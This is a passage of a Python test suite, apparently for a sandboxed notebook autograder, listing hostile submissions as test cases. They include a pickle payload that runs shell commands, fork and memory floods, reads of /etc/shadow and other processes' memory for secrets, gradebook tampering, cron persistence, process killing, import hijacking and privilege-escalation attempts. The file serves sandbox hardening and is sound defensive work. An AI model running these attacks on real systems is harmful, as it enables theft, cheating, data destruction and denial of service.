        'facts(\'{"version": 1, "exercise": NaN, "seed": 1e999, "runs": \' + \'9\' * 10_000 + \'}\')', says="cannot be read"
    ),
    "half characters in JSON": left("facts('{\"\\ud800\": 1}')", says="cannot be read"),
    "a pickle that reads the gradebook": left(
        """
npz(facts=np.array([type("Bad", (), {"__reduce__": lambda self: (eval, ("__import__('os').system('touch ' + %r)" % (COURSE + "/pickled"),))})()]))
""".strip(),
        says="cannot be read",
    ),
    "an archive that swells": left(
        "(lambda f: (np.savez_compressed(f, facts=np.zeros(300_000_000, np.uint8)), f.getvalue())[1])(io.BytesIO())", says="cannot be read"
    ),
    "an encrypted archive": left(
        "(lambda b: (b.__setitem__(b.rfind(b'PK\\1\\2') + 8, 1), bytes(b))[-1])(bytearray(stored()))", says="cannot be read"
    ),
    "one array listed again and again": left(
        """
(lambda f: (lambda z: (z.writestr("a.npy", header((10_000_000,)) + bytes(40_000_000)), z.filelist.extend(z.filelist * 4000), z.close(), f.getvalue())[-1])(zipfile.ZipFile(f, "w")))(io.BytesIO())
""".strip(),
        says="cannot be read",
    ),
    "lists without end": left("facts('{\"runs\": [' + '[],' * 10_000_000 + '0]}')", says="cannot be read"),
    "a head whose keys cannot be compared": left(
        "archive(b'\\x93NUMPY\\1\\0' + struct.pack('<H', 17) + b\"{1: 2, 'a': 3.5}\\n\")", says="cannot be read"
    ),
    "twenty thousand arrays": left("npz(**{f'a{i}': np.zeros(1) for i in range(20_000)})"),
    "a large file": left("b'PK' + bytes(100_000_000)", says="cannot be read"),
    "arrays of other things": left("npz(facts=np.array(['x']), a=np.zeros(1, 'M8[s]'), b=np.zeros(1, 'f4,i4'), c=np.zeros(2, '(2,2)f4'))"),
    "an array that claims more": left("archive(header((10**9,)))", says="cannot be read"),
    "arrays of strange shapes": left(
        "archive(*(header(shape, d) for shape in ((-1,), (-2, -2), (0, -1), (True,), (0,) * 30, (2**63, 0)) for d in ('<f4', '|O', '|V0', '(0,)f4', '<f16')))",
        says="cannot be read",
    ),
    "a symbolic link": left("lambda path: (attempt(os.unlink, path), attempt(os.symlink, COURSE + '/course_secret', path))"),
    "a pipe": left("lambda path: (attempt(os.unlink, path), attempt(os.mkfifo, path))"),
    "a folder": left("lambda path: (attempt(os.unlink, path), attempt(os.mkdir, path))"),
    "another file moved there": left("lambda path: (open('/tmp/x', 'wb').write(stored()), attempt(os.replace, '/tmp/x', path))"),
    "written again and again": Attack(
        """
def again():
    while True:
        attempt(put, None)

threading.Thread(target=again, daemon=True).start()
"""
    ),
    "written by another process": Attack("if not os.fork():\n    while True:\n        attempt(put, None)"),
}

# (4) Ends and crashes ------------------------------------------------------------------------------------------------


def ends(statement: str, name: str = "the process", **more) -> dict[str, Attack]:
    """The statement in a cell between two checks, and in the function."""
    body = f"def identity_block(X, f, filters, training=None, initializer=random_uniform):\n    {statement}\n    return X\n"
    return {
        f"{name}: {statement}, in a cell": Attack(statement, "between", STUB, **more),
        f"{name}: {statement}, in the function": answer(body, **more),
    }


STOPPED = "process ended while "  # this cell ran, or the function was being called
ENDS = {
    **ends("os._exit(0)", says=STOPPED),
    **ends("os.kill(os.getpid(), signal.SIGKILL)", says=STOPPED),
    **ends("ctypes.string_at(0)", says=STOPPED),
    **ends("os.abort()", says=STOPPED),
    "sys.exit in a cell": Attack("sys.exit(0)", "between", STUB, error="SystemExit"),
    "sys.exit in the function": answer("def identity_block(X, f, filters, training=None, initializer=random_uniform):\n    sys.exit(0)\n"),
    "raise KeyboardInterrupt in the function": answer(
        "def identity_block(X, f, filters, training=None, initializer=random_uniform):\n    raise KeyboardInterrupt\n"
    ),
    "an exception that is none": answer(
        """
class Odd(BaseException):
    def __str__(self):
        raise Odd
    __repr__ = __format__ = __str__

def identity_block(X, f, filters, training=None, initializer=random_uniform):
    raise Odd
"""
    ),
    "endless recursion": answer(
        "def identity_block(X, f, filters, training=None, initializer=random_uniform):\n    return identity_block(X, f, filters)\n"
    ),
    "the stack overflows": answer(
        """
def identity_block(X, f, filters, training=None, initializer=random_uniform):
    x = []
    for _ in range(3_000_000):
        x = [x]
    sys.setrecursionlimit(2**30)
    return repr(x)
""",
    ),
    "all descriptors closed": Attack("os.closerange(3, 1000)", "between", STUB),
    "stopped by itself": Attack("os.kill(os.getpid(), signal.SIGSTOP)", "between", STUB, limits=SHORT, says="stopped after"),
    "an alarm": Attack("signal.alarm(1)\ntime.sleep(3)", "between", STUB, says=STOPPED),
}

# (5) Without end -----------------------------------------------------------------------------------------------------

WITHOUT_END = {
    "deaf, in a cell": machine(
        "for number in range(1, 65):\n    attempt(signal.signal, number, signal.SIG_IGN)\nwhile True:\n    try:\n        time.sleep(9)\n"
        "    except BaseException:\n        pass",
        limits=SHORT,
        says="stopped after",
    ),
    "in C, in the function": answer(
        "def identity_block(X, f, filters, training=None, initializer=random_uniform):\n    return 10 ** 10 ** 10\n",
        limits=SHORT,
        says="stopped after",
    ),
    "a regular expression, in the function": answer(
        "def identity_block(X, f, filters, training=None, initializer=random_uniform):\n    return re.match('(a*)*b', 'a' * 60)\n",
        limits=SHORT,
        says="stopped after",
    ),
    "a thread that holds the interpreter": machine(
        "threading.Thread(target=lambda: ctypes.PyDLL(None).sleep(1000), daemon=True).start()\ntime.sleep(1)",
        limits=SHORT,
        says="stopped after",
    ),
    "input": machine("input('Your marks? ')", error="StdinNotImplementedError"),
}


def shared(descriptor: str) -> str:
    return f"""
import mmap
kept = []
for _ in range(30):
    kept.append(mmap.mmap({descriptor}, 100_000_000))
    for place in range(0, 100_000_000, 4096):
        kept[-1][place] = 1
    kept[-1].madvise(mmap.MADV_DONTNEED)
escaped("three gigabytes that nobody counts")
"""


# (6) Floods ----------------------------------------------------------------------------------------------------------

FLOODS = {
    "memory": machine("kept = [bytearray(b'x' * 50_000_000) for _ in range(100)]", limits=SMALL, error="MemoryError"),
    "memory, by many": machine(
        "for _ in range(12):\n    if not os.fork():\n        kept = bytearray(b'x' * 300_000_000)\n        time.sleep(20)\n        os._exit(0)\ntime.sleep(20)",
        limits=SMALL,
        says="took more than 2 GiB of memory",
    ),
    "memory, by some among idle copies": machine(
        """
kept = bytearray(b"x" * 400_000_000)
for n in range(50):
    if not os.fork():
        if n % 8 == 0:
            time.sleep(2)
            for place in range(0, len(kept), 4096):
                kept[place] = 1
        time.sleep(60)
        os._exit(0)
time.sleep(40)
""",
        limits=replace(SMALL, step=40),
        says="took more than 2 GiB of memory",
    ),
    "memory, handed on to orphans": machine(
        """
for _ in range(4):
    if not os.fork():
        kept = []
        while len(kept) < 25:
            kept.append(bytearray(b"x" * 40_000_000))
            if os.fork():
                time.sleep(0.05)
                os._exit(0)
        time.sleep(30)
        os._exit(0)
time.sleep(19)
""",
        limits=SMALL,
        says="took more than 2 GiB of memory",
    ),
    "memory that the process has let go of": machine(shared("-1"), error="PermissionError"),
    "memory of /dev/zero": machine(shared("os.open('/dev/zero', os.O_RDWR)"), error="FileNotFoundError"),
    "memory, in page tables": machine(
        """
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long
libc.madvise.argtypes = ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int
size = 700_000 << 21
start = libc.mmap(None, size, 1, 0x4022, -1, 0)
libc.madvise(start, size, 15)
for place in range(start, start + size, 1 << 21):
    ctypes.c_char.from_address(place).value
time.sleep(9)
""",
        limits=SMALL,
        says="took more than 2 GiB of memory",
    ),
    "memory, in sockets": machine(
        """
for _ in range(15):
    if not os.fork():
        kept = []
        while pair := attempt(socket.socketpair):
            kept += pair
            for one in pair:
                one.setblocking(False)
                while attempt(one.send, bytes(65536)):
                    pass
        time.sleep(20)
        os._exit(0)
time.sleep(20)
""",
        limits=SMALL,
        says="took more than 2 GiB of memory",
    ),
    "memory, in files": machine(
        "kept = []\nfor n in range(100):\n    file = open(f'/tmp/flood-{n}', 'wb')\n    if attempt(lambda: file.write(bytes(50_000_000)) and file.flush()) is None and n * 50 > 300:\n"
        "        break\n    if n > 20:\n        escaped('a gigabyte of files')\n        break"
    ),
    "a tensor too large": answer(
        "def identity_block(X, f, filters, training=None, initializer=random_uniform):\n    return tf.ones((200_000, 200_000))\n",
        limits=Limits(seconds=10, memory=2 * GIB),
    ),
    "forks": machine("for _ in range(600):\n    if attempt(os.fork) == 0:\n        time.sleep(30)\n        os._exit(0)"),
    "forks that fork": machine(
        "for _ in range(9):\n    attempt(os.fork)\nwhile True:\n    time.sleep(9)", limits=SHORT, says="stopped after"
    ),
    "threads": machine("for _ in range(2000):\n    attempt(threading.Thread(target=time.sleep, args=(30,), daemon=True).start)"),
    "files": machine(
        "made = 0\nfor n in range(30_000):\n    made += attempt(lambda: open(f'/tmp/many-{n}', 'w').close() or 1) or 0\n"
        "if made == 30_000:\n    escaped('thirty thousand files')"
    ),
    "disk behind the end of its files": machine(
        """
for path in places():
    with open(path, "r+b") as file:
        before = os.fstat(file.fileno()).st_blocks
        for mode in (1, 1 | 16):  # FALLOC_FL_KEEP_SIZE, FALLOC_FL_ZERO_RANGE
            libc.fallocate(file.fileno(), mode, ctypes.c_long(200_000_000), ctypes.c_long(2**20))
        for request in (0x40305828, 0x4030582A, 0x40305839):  # FS_IOC_RESVSP, FS_IOC_RESVSP64, FS_IOC_ZERO_RANGE
            libc.ioctl(file.fileno(), ctypes.c_ulong(request), struct.pack("hxxxxxxqqiI16x", 0, 200_000_000 + request, 2**20, 0, 0))
        if os.fstat(file.fileno()).st_blocks > before:
            escaped("blocks")
    for change in (lambda: os.setxattr(path, "user.x", b"x" * 1000), lambda: libc.syscall(463, -100, path.encode(), 0, b"user.x", bytes(16), 16)):
        if attempt(change) in (None, 0) and attempt(os.getxattr, path, "user.x"):
            escaped("attributes")
with open("/tmp/honest", "wb") as file:
    os.posix_fallocate(file.fileno(), 0, 100_000)
print(len(places()), "files,", os.path.getsize("/tmp/honest"), "bytes")
""",
        says="3 files, 100000 bytes",  # one for each exercise of the notebook
    ),
    "open files": machine(
        "kept = [attempt(open, '/dev/null') for _ in range(5000)]\nif all(kept):\n    escaped('five thousand open files')"
    ),
    "processor time of a child": machine("if not os.fork():\n    while True:\n        pass"),
    "small messages": machine("for n in range(20_000):\n    print(n, flush=True)"),
    "one huge line": machine("print('x' * 40_000_000)"),
    "huge display data": machine("display({'text/html': '<b>' * 5_000_000, 'image/png': 'x' * 20_000_000}, raw=True)"),
    "fifty thousand displays": machine("for n in range(50_000):\n    display(n)", limits=LIMITS),
    "updates of one display": machine(
        "from IPython.display import display\nh = display(0, display_id='a')\nfor n in range(5000):\n    h.update('x' * 1000)"
    ),
    "clear_output again and again": machine(
        "from IPython.display import clear_output\nfor n in range(5000):\n    clear_output(wait=n % 2)\n    print(n)"
    ),
    "metadata and names in output": machine(
        "display({'text/plain': 'x', **{f'a/{n}': 'x' for n in range(5000)}}, raw=True, metadata={str(n): {'y': 'x' * 100} for n in range(5000)})"
    ),
    "a huge traceback": machine("raise RuntimeError('x' * 5_000_000)", error="RuntimeError", says="more output was left out"),
}

# (7) Reading ---------------------------------------------------------------------------------------------------------

READING = {
    "the solutions": machine("show(COURSE + '/solutions/residual_networks', REPOSITORY + '/solutions')"),
    "the gradebook": machine(
        "show(COURSE + '/gradebook.db')\nprint(attempt(lambda: sqlite3.connect(COURSE + '/gradebook.db').execute('select * from grade').fetchall()))"
    ),
    "the course's secret": machine(
        "show(COURSE + '/course_secret', '../../../course_secret', os.path.realpath('../../..') + '/course_secret')"
    ),
    "other submissions": machine(
        "for path in glob.glob(COURSE + '/submitted/**', recursive=True) + glob.glob('../../*/*'):\n    show(path)"
    ),
    "the grader's code": machine(
        "for folder in (REPOSITORY, SITE, *sys.path, os.path.dirname(sys.modules['autograder'].__file__) + '/..'):\n"
        "    show(*(f'{folder}/autograder/{name}' for name in ('judge/rubric', 'judge', 'exercises/identity_block.py', 'truth/oracle.py', 'explain/search.py', 'answers.json')))"
    ),
    "the grader's code by import": machine(
        """
import importlib, importlib.resources, inspect
for name in ("exercises.identity_block", "value.exercise", "truth.oracle", "explain.rules", "judge.rubric.test_criteria", "explain.hints", "judge"):
    module = attempt(importlib.import_module, f"autograder.{name}")
    if module:
        print(inspect.getsource(module))
print(attempt(lambda: importlib.resources.files("autograder").joinpath("answers.json").read_text()))
"""
    ),
    "environments": machine("show('/proc/self/environ', *glob.glob('/proc/*/environ'))\nprint(os.environ)"),
    "memory of others": machine(
        """
for pid in {1, os.getppid(), GRADER, SERVER, NEIGHBOUR, *processes()} - {os.getpid()}:
    maps = attempt(lambda: open(f"/proc/{pid}/maps").readlines()) or ()
    memory = attempt(open, f"/proc/{pid}/mem", "rb", 0)
    for line in maps if memory else ():
        first, last = (int(n, 16) for n in line.split()[0].split("-"))
        if "rw" in line and last - first < 50_000_000 and attempt(memory.seek, first) is not None:
            for match in re.findall(rb"secret-word-[0-9a-f]{24}", attempt(memory.read, last - first) or b""):
                print(match)
"""
    ),
    "its own memory": machine(
        """
memory = open("/proc/self/mem", "rb", 0)
for line in open("/proc/self/maps"):
    first, last = (int(n, 16) for n in line.split()[0].split("-"))
    if "rw" in line and last - first < 100_000_000:
        memory.seek(first)
        for match in re.findall(rb"secret-word-[0-9a-f]{24}", attempt(memory.read, last - first) or b""):
            print(match)
"""
    ),
    "roots and folders of others": machine(
        "for pid in {'self', 1, os.getppid(), GRADER, SERVER, NEIGHBOUR, *processes()}:\n    for place in ('root', 'cwd'):\n"
        "        show(f'/proc/{pid}/{place}{COURSE}', f'/proc/{pid}/{place}/course_secret')\n    show(f'/proc/{pid}/cmdline')"
    ),
    "descriptors left open": machine(
        """
for pid in {"self", 1, os.getppid(), *processes()}:
    for fd in attempt(os.listdir, f"/proc/{pid}/fd") or ():
        target = attempt(os.readlink, f"/proc/{pid}/fd/{fd}") or ""
        print(target)
        if target.startswith("/") and not target.startswith(("/dev", "/proc")):
            show(f"/proc/{pid}/fd/{fd}")
for fd in range(3, 50):
    for up in ("course_secret", "../" * 12 + COURSE + "/course_secret"):
        print(attempt(lambda: os.read(os.open(up, os.O_RDONLY, dir_fd=fd), 1000)))
"""
    ),
    "what is mounted": machine(
        """
for line in open("/proc/self/mountinfo"):
    root, place = line.split()[3:5]
    print(root, place)
    show(place + COURSE, place + "/../" + COURSE, place + "/course_secret")
"""
    ),
    "symbolic links beside the notebook": machine(
        "show('link', 'folder/secret', 'stored/link')\nprint(os.listdir('.'))",
        files={"link": "-> COURSE/course_secret", "folder": "-> COURSE", "stored/link": "-> ../../../../gradebook.db"},
    ),
    "disks": machine(
        """
for name in {*(attempt(os.listdir, "/sys/class/block") or ()), "vda", "sda", "nvme0n1", "mem", "kmem", "port", "mapper"}:
    for path in (f"/dev/{name}", f"/proc/1/root/dev/{name}"):
        if attempt(open, path, "rb"):
            escaped(path)
for major, minor in ((254, 0), (252, 0), (8, 0), (259, 0), (1, 1), (7, 0)):
    path = f"/tmp/disk-{major}-{minor}"
    attempt(os.mknod, path, 0o60666, os.makedev(major, minor))
    if attempt(open, path, "rb"):
        escaped(path)
"""
    ),
    "what the machine's kernel tells": machine(
        "show('/proc/kcore', '/proc/kmsg', '/proc/sysrq-trigger', '/proc/sys/kernel/core_pattern', '/etc/shadow', GRADERS_HOME, '/home', '/var/log')\n"
        "for path in ('/proc/kcore', '/proc/kmsg', '/etc/shadow', f'{GRADERS_HOME}/.bashrc', '/var/log/dpkg.log'):\n    if attempt(lambda: open(path, 'rb').read(10)):\n        escaped(path)"
    ),
    "by the path that a shell finds": machine(
        "print(subprocess.run(['sh', '-c', f'cat {COURSE}/* /course_secret; find / -xdev -name course_secret -o -name gradebook.db | xargs cat; env; ps aux'],"
        " capture_output=True, text=True))"
    ),
}

# (8) Writing ---------------------------------------------------------------------------------------------------------

WRITING = {
    "the gradebook": machine(
        "def change():\n    with sqlite3.connect(COURSE + '/gradebook.db') as book:\n        book.execute('update grade set score = 100')\n\nattempt(change)"
    ),
    "the course's folder": machine(
        "for place in (COURSE, COURSE + '/submitted/me/residual_networks', COURSE + '/autograded'):\n    attempt(os.makedirs, place)\n"
        "    attempt(lambda: open(place + '/mine', 'w').write('mine'))\nattempt(lambda: open('../../../mine', 'w').write('mine'))"
    ),
    "what it is given": machine(
        "for folder, _, names in os.walk('.'):\n    for name in names:\n        open(f'{folder}/{name}', 'w').write('mine')\n"
        "open('mine', 'w').write('mine')\nos.chmod('.', 0o777)",
        files={"notes.txt": "hers"},
    ),
    "other submissions": machine("attempt(lambda: open(COURSE + '/submitted/other/residual_networks/hers.ipynb', 'a').write('mine'))"),
    "removed": machine("import shutil\nshutil.rmtree(COURSE, ignore_errors=True)\nattempt(os.rename, COURSE, COURSE + '-gone')"),
    "installed software": machine(
        "for place in (SITE, '/usr/bin', '/usr/lib', '/usr/local/bin', '/etc', '/', os.path.dirname(sys.executable), *sys.path, '/proc/sys/kernel'):\n"
        "    if attempt(lambda: open(place + '/attacked-by-a-test', 'w')):\n        escaped(place)\n        os.unlink(place + '/attacked-by-a-test')"
    ),
    "a module that is there": machine(
        "for path in (np.__file__, keras.__file__, sys.executable, '/etc/passwd', libc._name or '/usr/bin/env'):\n"
        "    for how in ('r+b', 'ab'):\n        if attempt(open, path, how):\n            escaped(path)\n"
        "    for action in (os.utime, lambda p: os.chmod(p, 0o755)):\n        attempt(action, path)"
    ),
    "the grader's own folder": machine(
        """
private = {os.path.dirname(os.path.dirname(path)) for path in places()}
for folder in private:
    for place in (folder, folder + "/evidence", folder + "/sockets", folder + "/root"):
        if attempt(lambda: open(place + "/mine", "w")):
            escaped(place)
    for path in glob.glob(folder + "/sockets/*"):
        if attempt(lambda: os.unlink(path) or 1):
            escaped(path)
    show(folder, folder + "/connection.json")
print(private)
"""
    ),
}

# (9) Network ---------------------------------------------------------------------------------------------------------

NETWORK = {
    "TCP": machine("for host in ('127.0.0.1', '0.0.0.0', '::ffff:127.0.0.1'):\n    attempt(socket.create_connection, (host, PORT), 2)"),
    "UDP": machine(
        "for host in ('127.0.0.1', '0.0.0.0'):\n    attempt(socket.socket(type=socket.SOCK_DGRAM).sendto, b'x', (host, MAILBOX))"
    ),
    "a socket of the machine": machine(
        "for path in (COURSE + '/socket', '/proc/1/root' + COURSE + '/socket', '../../../socket'):\n    attempt(socket.socket(socket.AF_UNIX).connect, path)\n"
        "for path in ('/var/run/docker.sock', '/run/systemd/private', '/run/dbus/system_bus_socket', '/tmp/.X11-unix/X0'):\n"
        "    if attempt(lambda: socket.socket(socket.AF_UNIX).connect(path) or 1):\n        escaped(path)"
    ),
    "an abstract socket": machine(
        "attempt(socket.socket(socket.AF_UNIX).connect, ABSTRACT)\nfor line in open('/proc/net/unix'):\n"
        "    if '@' in line and 'attacked-' not in line:  # not another test's\n        attempt(socket.socket(socket.AF_UNIX).connect, chr(0) + line.split('@')[1].strip())"
    ),
    "a name": machine(
        "for name in ('example.org', 'localhost.localdomain'):\n    if attempt(socket.getaddrinfo, name, 80):\n        escaped(name)"
    ),
    "a card of the machine": machine(
        """
with open("/proc/net/dev") as file:
    if any(not line.strip().startswith(("Inter", "face", "lo")) for line in file):
        escaped("another card")
for family, kind in ((socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_RAW), (40, socket.SOCK_STREAM), (31, socket.SOCK_RAW), (38, 5)):
    if attempt(socket.socket, family, kind):
        escaped(f"family {family}")
"""
    ),
    "its own card": machine(
        "import fcntl\ns = socket.socket(type=socket.SOCK_DGRAM)\n"
        "if attempt(fcntl.ioctl, s, 0x8914, struct.pack('16sh', b'lo', 1 | 64)) is not None:\n    escaped('the loopback is up')"
    ),
}

# (10) Processes ------------------------------------------------------------------------------------------------------

PROCESSES = {
    "left behind by forking twice": machine(
        "if not os.fork():\n    os.setsid()\n    if not os.fork():\n        os.execvp('sleep', ['sleep', '54399'])\n    os._exit(0)"
    ),
    "left behind without environment": machine(
        "subprocess.Popen(['setsid', 'nohup', 'sleep', '54399'], env={}, start_new_session=True, stdout=subprocess.DEVNULL)"
    ),
    "left behind deaf": machine(
        "if not os.fork():\n    for n in range(1, 65):\n        attempt(signal.signal, n, signal.SIG_IGN)\n    os.setsid()\n"
        "    os.closerange(0, 1000)\n    time.sleep(54399)"
    ),
    "left behind without end": machine(
        "def again():\n    while True:\n        if os.fork():\n            os._exit(0)\n        time.sleep(0.01)\n\nif not os.fork():\n    again()"
    ),
    "left behind stopped": machine("os.kill(subprocess.Popen(['sleep', '54399']).pid, signal.SIGSTOP)"),
    "at and cron": machine(
        "for command in (f'echo touch {COURSE}/later | at now + 1 minute', f'(echo \"* * * * * touch {COURSE}/later\") | crontab -',"
        " f'systemd-run --user touch {COURSE}/later', f'echo x > /var/spool/cron/crontabs/root'):\n"
        "    if subprocess.run(command, shell=True, capture_output=True).returncode == 0:\n        escaped(command)"
    ),
    "the grader, its server and the neighbour killed": machine(
        "for pid in {GRADER, SERVER, NEIGHBOUR}:\n    for number in (0, signal.SIGTERM, signal.SIGKILL):\n"
        "        if attempt(lambda: os.kill(pid, number) or 1) and pid > 50:\n            escaped(f'signal {number} to {pid}')"
    ),
    "all killed": Attack(
        # only where they are few: not those of a whole machine
        "if len(processes()) > 9:\n    escaped('the machine can be seen')\nelse:\n    attempt(os.kill, 1, signal.SIGKILL)\n    attempt(os.kill, -1, signal.SIGKILL)\n"
        "    os.kill(os.getpid(), signal.SIGKILL)",
        "between",
        STUB,
        says=STOPPED,
    ),
    "its keeper killed, stopped and asked to end": machine(
        "for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGHUP, signal.SIGKILL, signal.SIGSEGV):\n    attempt(os.kill, os.getppid(), number)\n"
        "    attempt(os.kill, 1, number)\n    attempt(os.killpg, 0, 0)"
    ),
    "slowed and out of turn": machine(
        "attempt(os.nice, -20)\nattempt(os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(50))\n"
        "if os.getpriority(os.PRIO_PROCESS, 0) < 0 or os.sched_getscheduler(0) == os.SCHED_FIFO:\n    escaped('its priority')\n"
        "import resource\nfor limit in (resource.RLIMIT_NPROC, resource.RLIMIT_DATA, resource.RLIMIT_FSIZE):\n"
        "    if attempt(lambda: resource.setrlimit(limit, (-1, -1)) or 1):\n        escaped('its limits')\n"
        "if attempt(lambda: os.open('/proc/self/oom_score_adj', os.O_WRONLY)) or int(open('/proc/self/oom_score_adj').read()) < 1000:\n"
        "    escaped('its place among the victims')"
    ),
}

# (11) Hijacked imports -----------------------------------------------------------------------------------------------

LIE = "import sys\nprint('hijacked')\ndef record(*given): pass\ndef probe(*given): return None\ndef check(*given): return 10.0\n"
IMPORTS = {
    "modules beside the notebook": machine(
        "import autograder, numpy, json, zipfile, keras\nprint(sorted(m.__file__ for m in (autograder, numpy, json, zipfile, keras)))",
        files={
            f"{name}.py": LIE
            for name in ("autograder", "numpy", "json", "zipfile", "keras", "sitecustomize", "usercustomize", "conftest", "pytest")
        }
        | {
            "autograder.pth": "import os; os._exit(0)",
            "pytest.ini": "[pytest]\naddopts = --collect-only\n",
            "autograder/probe/calls.py": LIE,
        },
    ),
    "modules written at run time": Attack(
        f"for name in ('autograder', 'numpy', 'json', 'zipfile', 'sitecustomize', 'conftest'):\n    open(name + '.py', 'w').write({LIE!r})\n"
        "for room in ('probe', 'evidence', 'sandbox'):\n    os.makedirs('autograder/' + room, exist_ok=True)\nfor name in ('__init__', 'probe/__init__', 'probe/calls', 'probe/record', 'evidence/__init__', 'sandbox/kernel'):\n"
        f"    open(f'autograder/{{name}}.py', 'w').write({LIE!r})\nsys.path.insert(0, os.getcwd())\n"
        "for name in [n for n in sys.modules if n.split('.')[0] == 'autograder']:\n    del sys.modules[name]",
    ),
    "settings for Python and Jupyter": machine(
        "for folder in (os.path.expanduser('~/.ipython/profile_default/startup'), os.path.expanduser('~/.jupyter'), os.path.expanduser('~/.config/matplotlib')):\n"
        f"    os.makedirs(folder, exist_ok=True)\n    open(folder + '/00.py', 'w').write({LIE!r})\n"
        "os.environ |= {'PYTHONPATH': os.getcwd(), 'PYTHONSTARTUP': os.getcwd() + '/autograder.py', 'LD_PRELOAD': os.getcwd() + '/x.so'}",
        files={"ipython_config.py": LIE, "jupyter_config.py": LIE, "nbgrader_config.py": LIE, "jupyter_nbconvert_config.py": LIE},
    ),
}

# (12) Ways out -------------------------------------------------------------------------------------------------------


def refused(expression: str) -> Attack:
    """A system call by its number, or anything else that must not give a truth."""
    head = "def call(x86, arm, *arguments):\n    number = x86 if os.uname().machine == 'x86_64' else arm\n"
    head += "    return libc.syscall(ctypes.c_long(number), *(ctypes.c_long(a) if isinstance(a, int) else a for a in arguments)) >= 0\n\n"
    return machine(f"{head}if attempt(lambda: {expression}):\n    escaped('it')")


ESCAPES = {
    "mount a file system": refused("libc.mount(b'none', b'/tmp/home', b'tmpfs', 0, None) == 0"),
    "mount a folder": refused("libc.mount(b'/tmp', b'/tmp/home', None, 4096, None) == 0"),
    "mount again, writable": refused(
        "libc.mount(None, b'/usr', None, 32 | 4096, None) == 0 or libc.mount(None, b'/', None, 32, None) == 0"
    ),
    "unmount": refused("libc.umount2(b'/tmp', 2) == 0 or libc.umount2(SITE.encode(), 2) == 0 or libc.umount2(b'/', 2) == 0"),
    "the newer calls for mounting": refused(
        "call(430, 430, b'tmpfs', 0) or call(428, 428, -100, b'/', 1) or call(442, 442, -100, b'/', 0, 0, 0)"
    ),
    "a new user namespace": refused("libc.unshare(0x10000000) == 0"),
    "new namespaces": refused(
        "any(libc.unshare(flag) == 0 for flag in (0x20000, 0x4000000, 0x8000000, 0x20000000, 0x40000000, 0x2000000, 0x80))"
    ),
    "clone into a new namespace": refused(
        "(lambda pid: pid > 0 or (pid == 0 and os._exit(0)))(libc.syscall(56 if os.uname().machine == 'x86_64' else 220, ctypes.c_long(0x10000000 | 17), 0, 0, 0, 0))"
    ),
    "another's namespaces": refused(
        "any(libc.setns(attempt(os.open, f'/proc/{p}/ns/{n}', 0) or -1, 0) == 0 for p in (1, os.getppid()) for n in ('mnt', 'user', 'net', 'pid'))"
    ),
    "chroot and out": refused("os.chroot('/tmp') is None"),
    "pivot_root": refused("call(155, 41, b'/tmp', b'/tmp')"),
    "trace the parent": refused("any(libc.ptrace(16, p, 0, 0) == 0 for p in (1, os.getppid()))"),
    "write another's memory": refused(
        "any(call(311, 271, p, b'x' * 16, 1, b'x' * 16, 1, 0) for p in (1, os.getppid())) or open('/proc/1/mem', 'wb')"
    ),
    "another's descriptors": refused("call(438, 438, libc.syscall(434, ctypes.c_long(1), 0), 0, 0)"),
    "a device": refused("os.mknod('/tmp/device', 0o20666, os.makedev(1, 3)) is None"),
    "io_uring": refused("call(425, 425, 8, ctypes.create_string_buffer(120))"),
    "BPF": refused("call(321, 280, 0, ctypes.create_string_buffer(struct.pack('IIII', 2, 4, 8, 1) + bytes(100)), 116)"),
    "userfaultfd, perf events and keys": refused(
        "call(323, 282, 0) or call(298, 241, ctypes.create_string_buffer(128), 0, -1, -1, 0) or call(250, 219, 0, -3, 1)"
    ),
    "files by their handles": refused(
        "call(303, 264, -100, b'/', ctypes.create_string_buffer(struct.pack('Ii', 64, 0) + bytes(128)), ctypes.create_string_buffer(8), 0)"
    ),
    "the calls of 32-bit programs": refused("libc.syscall(ctypes.c_long(0x40000000 + 39)) >= 0"),
    "uncounted memory": refused("os.memfd_create('x') or call(29, 194, 0, 10**9, 0o1600) or call(447, 447, 0)"),
    "larger buffers": refused("any(attempt(lambda: socket.socketpair()[0].setsockopt(1, size, 10**6) or 1) for size in (7, 8, 32, 33))"),
    "another processor": refused("os.sched_setaffinity(0, range(64)) or 1"),
    "a program with its owner's rights": refused(
        "any(b'uid=0' in subprocess.run(['sh', '-c', c], capture_output=True, stdin=subprocess.DEVNULL, timeout=5).stdout"
        " for c in ('su -c id', 'sudo -n id', 'pkexec id', 'newgrp root -c id'))"
    ),
    "be root": refused("[f for f in (os.setuid, os.seteuid, os.setgid) if attempt(lambda: f(0) or 1)]"),
    "rights regained": refused(
        "int(re.search('CapEff:.(.*)', open('/proc/self/status').read())[1], 16) or int(re.search('CapBnd:.(.*)', open('/proc/self/status').read())[1], 16)"
        " or libc.prctl(23, 21, 0, 0, 0) == 1 or libc.prctl(47, 2, 21, 0, 0) == 0 or libc.prctl(38, 0, 0, 0, 0) == 0"
    ),
    "a file with rights": refused(
        "os.chown('/tmp/home', 0, 0) is None or os.setxattr(SITE, 'user.x', b'x') is None or os.setxattr('/tmp/home', 'security.capability', bytes(20)) is None"
    ),
    "a program run from the scratch folder": refused(
        "(open('/tmp/x', 'wb').write(open('/usr/bin/env', 'rb').read()), os.chmod('/tmp/x', 0o4755), subprocess.run(['/tmp/x'], capture_output=True).returncode == 0)[2]"
    ),
    "the clock, the name, the end": refused(
        "call(227, 112, 0, bytes(16)) or libc.sethostname(b'x', 1) == 0 or call(169, 142, 0, 0, 0) or call(103, 116, 5, 0, 0)"
    ),
    "others held up by leases and watches": refused(
        "[c for c, a in ((1024, 0), (1026, 2), (1040, struct.pack('IHH', 0, 0, 0)))"
        " for f in (attempt(os.open, np.__file__, 0), attempt(os.open, '/tmp/home', 0), os.open('/tmp/x', os.O_RDONLY | os.O_CREAT))"
        " if attempt(lambda: __import__('fcntl').fcntl(f, c, a) is not None)]"
    ),
    "all watches taken": refused("call(294, 26, 0) or libc.inotify_init() >= 0"),
    "another personality": refused("libc.personality(ctypes.c_ulong(0x0400000)) >= 0 or libc.personality(ctypes.c_ulong(0xFFFFFFFF)) < 0"),
    "pages of another size, another's orphans and children": refused(
        "libc.prctl(41, 0, 0, 0, 0) == 0 or libc.prctl(36, 1, 0, 0, 0) == 0"
